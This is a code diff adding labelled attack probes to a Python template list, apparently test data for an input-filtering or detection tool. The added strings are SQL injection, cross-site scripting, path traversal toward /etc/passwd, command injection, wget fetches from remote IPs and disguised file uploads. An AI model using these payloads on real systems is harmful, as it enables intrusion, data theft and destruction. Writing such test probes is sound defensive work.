@@ -54,6 +54,22 @@ TEMPLATES = [
     (ATTACK_SRC, "Upload with a false type", "sheet=report.jsp;type=image/png {text}", True),
     (ATTACK_SRC, "Probe 17", "token={text}", True),
     (ATTACK_SRC, "Probe 18", "session={text}", True),
+    (ATTACK_SRC, "Probe 23", "item=7 UNION SELECT pin, code FROM vaults {text}", True),
+    (ATTACK_SRC, "Probe 24", "who=ann' OR 1=1 -- {text}", True),
+    (ATTACK_SRC, "Probe 25", "id=3; DROP TABLE carts -- {text}", True),
+    (ATTACK_SRC, "Probe 26", "note=<script>self.name=4</script>{text}", True),
+    (ATTACK_SRC, "Probe 27", 'pic={text}"><img src=r onerror=confirm(5)>', True),
+    (ATTACK_SRC, "Probe 28", "read=/etc/passwd {text}", True),
+    (ATTACK_SRC, "Probe 29", "page=../../../../var/plan.db {text}", True),
+    (ATTACK_SRC, "Probe 30", "dir=../../keys.yml {text}", True),
+    (ATTACK_SRC, "Probe 31", "job=; cat plan.txt {text}", True),
+    (ATTACK_SRC, "Probe 32", "from=wget http://203.0.113.9/r.bin {text}", True),
+    (ATTACK_SRC, "Probe 33", "then=; wget http://198.51.100.4/s.sh {text}", True),
+    (ATTACK_SRC, "Probe 34", "dns=10.1.1.9 | ls -a {text}", True),
+    (ATTACK_SRC, "File upload, double ending", "doc=memo.php.png {text}", True),
+    (ATTACK_SRC, "Upload of a script", "doc=album.php.jpg {text}", True),
+    (ATTACK_SRC, "Probe 35", "token={text}&session=1", True),
+    (ATTACK_SRC, "Probe 36", "session={text}&token=2", True),
     (ATTACK_SRC, "Base64 probe", "{base64}", True),
     (ATTACK_SRC, "Hex probe", "0x{hex}", True),
     (ATTACK_SRC, "Empty probe", "{marks}", True),
